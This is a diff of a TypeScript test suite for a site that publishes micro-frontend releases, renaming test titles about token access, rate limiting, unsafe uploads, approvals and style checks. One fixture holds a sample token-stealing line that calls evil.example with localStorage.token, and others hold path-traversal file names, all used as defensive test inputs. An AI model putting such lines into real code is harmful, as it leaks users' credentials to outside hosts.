@@ -101,7 +101,7 @@ const nothingIsKept = async () => {
   expect(existsSync(kept) ? readdirSync(kept) : []).toEqual([])
 }
 
-test('publishes, starts a canary, ends it and goes back, and the log says who did', async () => {
+test('a publisher publishes, starts and ends a canary, and rolls back, and the log names the publisher', async () => {
   expect(await publish('1')).toEqual({
     status: 200,
     body: { remote: 'mf_auth', after: { active: '1', fallback: null }, added: [] },
@@ -128,7 +128,7 @@ describe('access of publishers', () => {
     await nothingIsKept()
   }
 
-  test('none without a token, with an invented or a revoked one', async () => {
+  test('the site refuses publishing without a token, and with an invented or a revoked token', async () => {
     await refusedWith('')
     await refusedWith('trazo_00000000_AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA')
     await refusedWith(`${token.slice(0, -1)}${token.endsWith('A') ? 'B' : 'A'}`)
@@ -139,7 +139,7 @@ describe('access of publishers', () => {
     expect((await order({ kind: 'to', release: 'previous' })).status).toBe(401)
   })
 
-  test('no team another team’s remote', async () => {
+  test('a publisher cannot publish or roll back another team’s remote', async () => {
     const other = await createPublisher({ dataDir }, 'mf_documents', 'Equipo de documentos', NOW)
     const { status, body } = await call({ method: 'POST', body: await formOf(await build('1')) }, other)
     expect(status).toBe(422)
@@ -149,7 +149,7 @@ describe('access of publishers', () => {
     expect((await live())?.active).toBe('1')
   })
 
-  test('the token is stored as a hash, for its owner alone, and is in no log and no answer', async () => {
+  test('the site stores a token hashed in a private file, and never logs or returns the token', async () => {
     const file = join(dataDir, 'releases/publishers.json')
     expect(statSync(file).mode & 0o777).toBe(0o600)
     const answers = [await publish('1'), await publish('2', { 'x.html': '' }), await order({ kind: 'nothing' })]
@@ -159,7 +159,7 @@ describe('access of publishers', () => {
     expect((await fetch(`http://127.0.0.1:${port}/r/mf_auth/../publishers.json`)).status).toBe(404)
   })
 
-  test('guessing tokens is slowed down', async () => {
+  test('the site limits requests with invalid tokens and still accepts a valid token', async () => {
     for (let tries = 0; tries < 30; tries += 1) await call({}, 'wrong')
     expect((await call({}, 'wrong')).status).toBe(429)
     expect((await call({})).status).toBe(200)
@@ -182,7 +182,7 @@ describe('attacks with files', () => {
     'a\\..\\x.js',
     `${'a'.repeat(201)}.js`,
     '',
-  ])('%j leaves its folder or hides', async (name) => {
+  ])('the site refuses the unsafe file name %j and writes nothing', async (name) => {
     const { status } = await ofEntries([name, 'evil'])
     expect(status).toBe(422)
     await nothingIsKept()
@@ -198,7 +198,7 @@ describe('attacks with files', () => {
     ['a large file', [['x.js', 'x'.repeat(4001)]], /x\.js pesa más/],
     ['large files', [1, 2, 3].map((n) => [`${n}.js`, 'x'.repeat(3500)] as const), /La versión pesa más/],
     ['many files', Array.from({ length: 12 }, (_, n) => [`${n}.js`, 'x'] as const), /demasiados archivos/],
-  ])('%s', async (_what, entries, message) => {
+  ])('the site refuses an upload with %s and keeps nothing', async (_what, entries, message) => {
     const { status, body } = await ofEntries(...entries)
     expect(status).toBe(422)
     expect(body.message).toMatch(message)
@@ -206,7 +206,7 @@ describe('attacks with files', () => {
     await nothingIsKept()
   })
 
-  test('other content under the name of a kept release', async () => {
+  test('the site refuses other contents under the name of a kept release', async () => {
     await publish('1')
     const { status, body } = await publish('1', { 'app.js': 'alert(1)' })
     expect([status, body.message]).toEqual([422, expect.stringMatching(/ya tiene una versión 1 con otros archivos/)])
@@ -218,7 +218,7 @@ describe('broken uploads', () => {
   const head = (more: string) =>
     `POST /releases HTTP/1.1\r\nhost: x\r\nauthorization: Bearer ${token}\r\ncontent-type: multipart/form-data; boundary=b\r\n${more}\r\n`
 
-  test('a body that stops halfway leaves nothing', async () => {
+  test('an upload that stops halfway leaves no files', async () => {
     const request = new AbortController()
     const form = new Response(await formOf(await build('1')))
     const type = form.headers.get('content-type') ?? ''
@@ -242,7 +242,7 @@ describe('broken uploads', () => {
     await nothingIsKept()
   })
 
-  test('a slow body ends at the limit of time', async () => {
+  test('the site refuses an upload that exceeds the time limit', async () => {
     await site.close()
     await open(300)
     const received = await sendBytes(port, `${head('content-length: 900\r\n')}--b\r\n`)
@@ -257,7 +257,7 @@ describe('broken uploads', () => {
     ['another field', '--b\r\ncontent-disposition: form-data; name="release"\r\n\r\n{"record":{}}\r\n--b--\r\n'],
     ['an end too early', '--b\r\ncontent-disposition: form-data; name="release"\r\n\r\n{'],
     ['no part', '--b--\r\n'],
-  ])('%s', async (_what, body) => {
+  ])('the site refuses an upload with %s', async (_what, body) => {
     const received = await sendBytes(port, `${head(`content-length: ${body.length}\r\nconnection: close\r\n`)}${body}`)
     expect(received).toMatch(/^HTTP\/1\.1 422 [\s\S]*RELEASE_REFUSED/)
     await nothingIsKept()
@@ -273,7 +273,7 @@ describe('broken uploads', () => {
   const untilNothingIsLeft = () => until(() => left().length === 0)
 })
 
-test('two publications at once: both are kept, the later one is live', async () => {
+test('two concurrent publications are both kept, as live release and fallback', async () => {
   await publish('1')
   const both = await Promise.all([publish('2'), publish('3')])
   expect(both.map(({ status }) => status)).toEqual([200, 200])
@@ -281,13 +281,13 @@ test('two publications at once: both are kept, the later one is live', async () 
   expect([entry?.active, entry?.fallback].sort()).toEqual(['2', '3'])
 })
 
-test('says what the code of a release names and the live one’s did not', async () => {
+test('publishing lists the browser storage and hosts that only the new code names', async () => {
   await publish('1', { 'app.js': 'fetch("/a")' })
   const { body } = await publish('2', { 'app.js': 'fetch("https://evil.example/"+localStorage.token)' })
   expect(body.added).toEqual(['guarda en el navegador: localStorage', 'habla con: https://evil.example'])
 })
 
-describe('two people per release', () => {
+describe('approval of a release by a second person', () => {
   let second: string
   beforeEach(async () => {
     await site.close()
@@ -309,7 +309,7 @@ describe('two people per release', () => {
     expect((await approve(second)).status).toBe(404)
   })
 
-  test('a release of a revoked token cannot be approved', async () => {
+  test('a release cannot be approved after the token that published it is revoked', async () => {
     await publish('1')
     const [author] = await listPublishers({ dataDir })
     await revokePublisher({ dataDir }, author?.id ?? '', NOW)
@@ -317,7 +317,7 @@ describe('two people per release', () => {
     expect(await live()).toBeUndefined()
   })
 
-  test('a canary becomes one by its approval; going back needs none', async () => {
+  test('a canary starts when it is approved, and a roll-back needs no approval', async () => {
     await publish('1')
     await approve(second)
     await publish('2', {}, {}, { canary: 5 })
@@ -334,14 +334,14 @@ describe('checks against the running shell', () => {
     return body.message
   }
 
-  test('finding 2: an export that the live shell lacks', async () => {
+  test('finding 2: the site refuses a release that uses an export the live shell lacks', async () => {
     const contract = { needs: { 'shared/ui': '^5.0.0' }, imports: { 'shared/ui': ['Button', 'Ring'] } }
     expect(await refusal({}, contract)).toBe(
       'mf_auth 2 usa Ring de shared/ui, que el shell s1 no ofrece: primero hay que publicar un shell con eso, o dejar de usarlo en mf-auth.\nNo se publicó nada.',
     )
   })
 
-  test('finding 5: styles for elements of others', async () => {
+  test('finding 5: the site refuses styles for elements that the remote does not own', async () => {
     expect(await refusal({ 'lazy.css': 'button{color:red} .shell-bar{display:none} :root{--color-ink:red}' })).toBe(
       'mf_auth 2: lazy.css cambia elementos que no son suyos (button, .shell-bar, --color-ink). Usa clases propias, en un archivo .module.css.\nNo se publicó nada.',
     )
@@ -372,11 +372,11 @@ describe('checks against the running shell', () => {
       /mf_auth 2 pesa demasiado en \/login: 0 kB en 4 archivos; el límite es de 10,5 kB en 3 archivos/,
     ],
     ['a broken record of first files', { 'prerender.json': '{}' }, {}, /prerender\.json no se puede leer/],
-  ])('%s', async (_what, files, contract, message) => {
+  ])('the site refuses a release with %s', async (_what, files, contract, message) => {
     expect(await refusal(files, contract)).toMatch(message)
   })
 
-  test('finding 5: a build without recorded types and tests', async () => {
+  test('finding 5: the site refuses a build without recorded checks of types and tests', async () => {
     const root = await build('2')
     for (const checks of [undefined, {}, { release: '1', types: true, tests: true, at: NOW.toISOString() }]) {
       const { body } = await call({ method: 'POST', body: await formOf(root, { checks }) })
@@ -385,7 +385,7 @@ describe('checks against the running shell', () => {
     await nothingIsKept()
   })
 
-  test('styles of another live remote', async () => {
+  test('the site refuses styles for a class of another live remote', async () => {
     const other = await createPublisher({ dataDir }, 'mf_documents', 'Equipo de documentos', NOW)
     const form = await formOf(await build('1', { 'app.css': '.card { color: red }' }, {}, 'mf_documents'))
     expect((await call({ method: 'POST', body: form }, other)).status).toBe(200)
@@ -393,7 +393,7 @@ describe('checks against the running shell', () => {
   })
 })
 
-test('a release from before licences.json, which was live, may come back', async () => {
+test('a publisher can roll back to a formerly live release without licences.json', async () => {
   const contract = { name: 'mf_auth', release: '0', contract: 1, routes: ['/login'], slots: [], needs: {}, imports: {} }
   const root = await writeBuild(join(folder, 'old'), 'mf_auth', '0', contract)
   await switchRelease({ dataDir, name: 'mf_auth' }, { kind: 'build', root }, NOW)
